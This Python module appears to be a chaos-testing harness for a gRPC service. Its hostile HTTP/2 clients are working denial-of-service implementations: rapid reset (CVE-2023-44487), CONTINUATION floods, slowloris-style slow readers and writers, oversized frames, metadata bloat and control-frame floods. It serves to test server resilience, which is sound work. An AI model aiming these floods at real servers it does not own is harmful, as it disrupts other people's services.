"""Hostile clients, each run for a given time: `python -m chaos.attacks ATTACK ADDRESS SECURITY SEED SECONDS`.

SECURITY is `plain` or `tls`. An attack is a process of its own, so that it affects a well-behaved client only through
the server. It sends at most as much as a line of 1 Gbit/s carries. At the end it prints JSON: how many connections it
opened, how many of them the server closed, and how often it did what it does.
"""

import json
import random
import resource
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Mapping
from typing import Final

from bench.headers import request_blocks
from bench.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
)

CAN_USE: Final = "/canuse.v1.EntitlementService/CanUse"
LIST_FEATURES: Final = "/canuse.v1.CatalogService/ListFeatures"
REQUEST: Final = b"\x0a\x03124\x12\x04none"
"""A check of a feature that does not exist."""
REFLECTION: Final = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
SYMBOL: Final = b"canuse.v1.EntitlementService"
DESCRIBE: Final = b"\x22" + bytes((len(SYMBOL),)) + SYMBOL
"""Asks for the file of a service, which takes no key."""
PAGE: Final = b"\x08\xe8\x07"
"""A page of 1000 features."""
CANCEL: Final = 8
MAX_FRAME_BYTES: Final = (1 << 24) - 1
IDLE_CONNECTIONS: Final = 1_000
LINE_BYTES: Final = 125_000_000
"""Maximum number of bytes sent per second."""
MAX_WAIT_SECONDS: Final = 5.0
PAUSE_SECONDS: Final = 0.05
MAX_WRITE_BYTES: Final = 1 << 18
_FRAME: Final = struct.Struct(">BHBBI")
_SETTING: Final = struct.Struct(">HI")


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", *, length: int | None = None) -> bytes:
    """Return a frame; `length` replaces the length of the payload in its header."""
    size = len(payload) if length is None else length
    return _FRAME.pack(size >> 16, size & 0xFFFF, kind, flags, stream) + payload


def block(path: str, *more: tuple[bytes, bytes]) -> bytes:
    """Return the headers of a call."""
    headers = [(b":path", path.encode()), (b":authority", b"x"), (b"content-type", b"application/grpc")]
    return request_blocks([*headers, (b"te", b"trailers"), *more])[0]


def message(payload: bytes) -> bytes:
    """Return a message as gRPC sends it."""
    return b"\0" + len(payload).to_bytes(4, "big") + payload


def call(stream: int, path: str, payload: bytes) -> bytes:
    """Return the frames of a call."""
    return frame(HEADERS, END_HEADERS, stream, block(path)) + frame(DATA, END_STREAM, stream, message(payload))


class Connection:
    """A connection that reads nothing unless told to. What the server does to it is counted."""

    def __init__(self, attack: "Attack", *, greet: bool = True, window: int = 65_535, receive_bytes: int = 0) -> None:
        self._attack = attack
        self.socket = socket.socket()
        if receive_bytes:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        self.socket.settimeout(MAX_WAIT_SECONDS)
        self.socket.connect(attack.address)
        if attack.tls:
            self.socket = attack.tls.wrap_socket(self.socket)
        attack.add("connections")
        self.is_open = True
        if greet:
            self.send(PREFACE + frame(SETTINGS, 0, 0, _SETTING.pack(INITIAL_WINDOW_SIZE, window)))

    def send(self, data: bytes) -> bool:
        """Send; return whether the connection is still open.

        While the server does not read, this blocks until the attack is over.
        """
        view = memoryview(data)
        while self.is_open and view and not self._attack.is_over:
            try:
                sent = self.socket.send(view[:MAX_WRITE_BYTES])
                self._attack.pace(sent)
                view = view[sent:]
            except TimeoutError:
                continue
            except OSError:
                self._ended()
        return self.is_open

    def read(self, seconds: float = MAX_WAIT_SECONDS) -> bytes:
        """Wait for data and read it; empty if the server has closed the connection or sends nothing."""
        self.socket.settimeout(seconds)
        try:
            data = self.socket.recv(1 << 16)
        except TimeoutError:
            return b""
        except OSError:
            data = b""
        if not data:
            self._ended()
        return data

    def drain(self) -> None:
        """Read everything that has arrived."""
        self.socket.setblocking(False)
        try:
            while self.is_open:
                if not self.socket.recv(1 << 16):
                    self._ended()
        except (BlockingIOError, ssl.SSLWantReadError):
            self.socket.settimeout(MAX_WAIT_SECONDS)
        except OSError:
            self._ended()

    def is_ended(self, seconds: float = MAX_WAIT_SECONDS) -> bool:
        """Wait for the server to close the connection; return whether it has."""
        until = time.monotonic() + seconds
        while self.is_open and (remaining := until - time.monotonic()) > 0 and not self._attack.is_over:
            self.read(remaining)
        return not self.is_open

    def _ended(self) -> None:
        if self.is_open:
            self.is_open = False
            self._attack.add("ended")
        self.socket.close()

    def close(self) -> None:
        """Close it."""
        self.socket.close()


class Attack:
    """An attack: its target, its end, its random numbers, and its counters."""

    def __init__(self, address: str, security: str, seed: str, seconds: float) -> None:
        host, _, port = address.rpartition(":")
        self.address = (host, int(port))
        self.tls = _tls() if security == "tls" else None
        self.rng = random.Random(seed)
        self.counts: dict[str, int] = {"connections": 0, "ended": 0}
        self._start = time.monotonic()
        self._until = self._start + seconds
        self._sent = 0
        self._lock = threading.Lock()

    @property
    def is_over(self) -> bool:
        """Whether the time is up."""
        return time.monotonic() > self._until

    def add(self, what: str, number: int = 1) -> None:
        """Increase a counter."""
        with self._lock:
            self.counts[what] = self.counts.get(what, 0) + number

    def pace(self, sent: int) -> None:
        """Wait until the line could have carried what was sent."""
        with self._lock:
            self._sent += sent
            ahead = self._sent / LINE_BYTES - (time.monotonic() - self._start)
        if ahead > 0:
            time.sleep(ahead)

    def wait(self) -> None:
        """Wait until the time is up."""
        time.sleep(max(0.0, self._until - time.monotonic()))

    def at_once(self, number: int, work: Callable[[], None]) -> None:
        """Run work in so many threads, repeatedly, until the time is up."""

        def again() -> None:
            while not self.is_over:
                try:
                    work()
                except OSError:
                    self.add("refused")
                    time.sleep(PAUSE_SECONDS)

        threads = [threading.Thread(target=again) for _ in range(number)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def _tls() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def idle(attack: Attack) -> None:
    """1,000 connections that send nothing, or nothing but the preface."""
    opened = [Connection(attack, greet=bool(number % 2)) for number in range(IDLE_CONNECTIONS)]
    attack.wait()
    for connection in opened:
        connection.drain()
        connection.close()


def slow_readers(attack: Attack) -> None:
    """Calls with large answers that nobody reads: without a window, or with a window and a full socket buffer."""
    _ask_and_read_nothing(attack, b"".join(call(stream, LIST_FEATURES, PAGE) for stream in range(1, 21, 2)), 10)


def deaf_askers(attack: Attack) -> None:
    """Streams that request descriptions endlessly and read none."""
    questions = [
        frame(HEADERS, END_HEADERS, stream, block(REFLECTION)) + frame(DATA, 0, stream, message(DESCRIBE)) * 50
        for stream in range(1, 41, 2)
    ]
    _ask_and_read_nothing(attack, b"".join(questions), 1000)


def _ask_and_read_nothing(attack: Attack, calls: bytes, number: int) -> None:
    opened = [Connection(attack, window=place % 2 * 65_535, receive_bytes=4096) for place in range(40)]
    for connection in opened:
        if connection.send(calls):
            attack.add("asked", number)
    attack.wait()
    for connection in opened:
        connection.close()


def slow_writers(attack: Attack) -> None:
    """200 connections on which calls arrive at a byte per second: in the preface, in the headers, in the message."""
    whole = PREFACE + frame(SETTINGS, 0, 0) + call(1, CAN_USE, REQUEST)
    opened = [Connection(attack, greet=False) for _ in range(200)]
    sent = [attack.rng.randrange(len(whole)) for _ in opened]
    for connection, at in zip(opened, sent, strict=True):
        connection.send(whole[:at])
    while not attack.is_over:
        for number, connection in enumerate(opened):
            if connection.is_open and sent[number] < len(whole):
                connection.send(whole[sent[number] : sent[number] + 1])
                sent[number] += 1
                attack.add("bytes")
        time.sleep(1)
    for connection in opened:
        connection.drain()
        connection.close()


def resets(attack: Attack) -> None:
    """Calls that are reset as soon as they are made (rapid reset, CVE-2023-44487)."""

    def work() -> None:
        connection, stream, path = Connection(attack), 1, attack.rng.choice((CAN_USE, LIST_FEATURES))
        while connection.is_open and not attack.is_over and stream < 1 << 30:
            out = []
            for number in range(stream, stream + 200, 2):
                out += [call(number, path, REQUEST), frame(RST_STREAM, 0, number, CANCEL.to_bytes(4, "big"))]
            if connection.send(b"".join(out)):
                attack.add("resets", 100)
            connection.drain()
            stream += 200
        connection.close()

    attack.at_once(2, work)


def garbage(attack: Attack) -> None:
    """Random bytes: right away, after the preface, and as the payload of frames of all kinds."""

    def work() -> None:
        rng = attack.rng
        kind = rng.randrange(3)
        connection = Connection(attack, greet=kind > 0)
        for _ in range(8):
            data = rng.randbytes(rng.randrange(1, 4000))
            if kind == 2:
                data = frame(rng.randrange(12), rng.randrange(256), rng.randrange(4), data)
            connection.send(data)
            attack.add("pieces")
        connection.drain()
        connection.close()

    attack.at_once(2, work)


def http_1(attack: Attack) -> None:
    """HTTP/1 requests, as browsers, scanners and misconfigured proxies send them."""
    requests = [
        b"GET / HTTP/1.1\r\nhost: x\r\n\r\n",
        b"POST /canuse HTTP/1.0\r\ncontent-length: 99999999\r\n\r\n" + b"x" * 9999,
        b"PRI * HTTP/1.1\r\n\r\nSM\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"x-y: z\r\n" * 20_000,
    ]

    def work() -> None:
        connection = Connection(attack, greet=False)
        connection.send(attack.rng.choice(requests))
        connection.is_ended(1)
        connection.close()
        attack.add("requests")

    attack.at_once(2, work)


def large_frames(attack: Attack) -> None:
    """Frames of 16 MiB, which no setting allows, and messages that announce 4 GiB, in an endless sequence of frames."""

    def too_long() -> None:
        connection = Connection(attack)
        kind = attack.rng.choice((DATA, HEADERS, SETTINGS, PING, CONTINUATION, 99))
        connection.send(frame(HEADERS, END_HEADERS, 1, block(CAN_USE)))
        connection.send(frame(kind, 0, 1, b"x" * 16_384, length=MAX_FRAME_BYTES))
        for _ in range(64):
            if not connection.send(b"x" * (1 << 18)):
                break
        attack.add("frames")
        connection.drain()
        connection.close()

    def too_large() -> None:
        connection = Connection(attack)
        path = attack.rng.choice((CAN_USE, LIST_FEATURES))
        connection.send(frame(HEADERS, END_HEADERS, 1, block(path)) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
        piece = frame(DATA, 0, 1, b"x" * 16_384) * 16
        for _ in range(256):
            if not connection.send(piece) or attack.is_over:
                break
            attack.add("kib", 256)
            connection.drain()
        connection.close()

    def work() -> None:
        attack.rng.choice((too_long, too_large))()

    attack.at_once(2, work)


def large_metadata(attack: Attack) -> None:
    """Calls with 1 MiB of metadata, sent in full, or as one table entry that is repeated thousands of times."""

    def work() -> None:
        connection = Connection(attack)
        stream = 1
        while connection.is_open and not attack.is_over and stream < 100:
            start = block(CAN_USE, (b"x-large", b"y" * 3_900))
            rest = b"\xbe" * 16_000 if attack.rng.random() < 0.5 else b"\x00\x03x-y\x7f\x81\x78" + b"z" * 15_488
            connection.send(frame(HEADERS, 0, stream, start))
            for _ in range(64 if rest[0] == 0 else 1):
                connection.send(frame(CONTINUATION, 0, stream, rest))
            connection.send(frame(CONTINUATION, END_HEADERS, stream, b""))
            connection.send(frame(DATA, END_STREAM, stream, message(REQUEST)))
            attack.add("asked")
            connection.drain()
            stream += 2
        connection.close()

    attack.at_once(2, work)


def continuations(attack: Attack) -> None:
    """Headers that never end (CVE-2024-24549 and others)."""

    def work() -> None:
        connection = Connection(attack)
        connection.send(frame(HEADERS, 0, 1, block(CAN_USE)))
        pieces = frame(CONTINUATION, 0, 1, b"\x00\x03x-y\x01z" * 100) * 64
        while connection.is_open and not attack.is_over:
            if connection.send(pieces):
                attack.add("frames", 64)
            connection.drain()
        connection.close()

    attack.at_once(2, work)


def control_floods(attack: Attack) -> None:
    """Endless settings, pings, empty frames and window updates, whose answers nobody reads."""
    floods = [
        frame(PING, 0, 0, b"12345678") * 500,
        frame(SETTINGS, 0, 0, _SETTING.pack(INITIAL_WINDOW_SIZE, 65_535)) * 500,
        frame(SETTINGS, ACK, 0) * 500,
        frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 500,
        frame(RST_STREAM, 0, 1, CANCEL.to_bytes(4, "big")) * 500,
        frame(DATA, 0, 1, b"") * 500,
        frame(2, 0, 1, b"\0\0\0\0\1") * 500,
    ]

    def work() -> None:
        connection = Connection(attack, receive_bytes=4096)
        connection.send(frame(HEADERS, END_HEADERS, 1, block(CAN_USE)))
        flood = attack.rng.choice(floods)
        for _ in range(2_000):
            if not connection.send(flood) or attack.is_over:
                break
            attack.add("frames", 500)
        connection.close()

    attack.at_once(2, work)


ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        idle,
        slow_readers,
        deaf_askers,
        slow_writers,
        resets,
        garbage,
        http_1,
        large_frames,
        large_metadata,
        continuations,
        control_floods,
    )
}


def run(attacks: Mapping[str, Callable[[Attack], None]]) -> None:
    """Run the attack that the command line names."""
    name, address, security, seed, seconds = sys.argv[1:]
    _, hard_limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard_limit, hard_limit))
    attack = Attack(address, security, seed, float(seconds))
    attacks[name](attack)
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    run(ATTACKS)
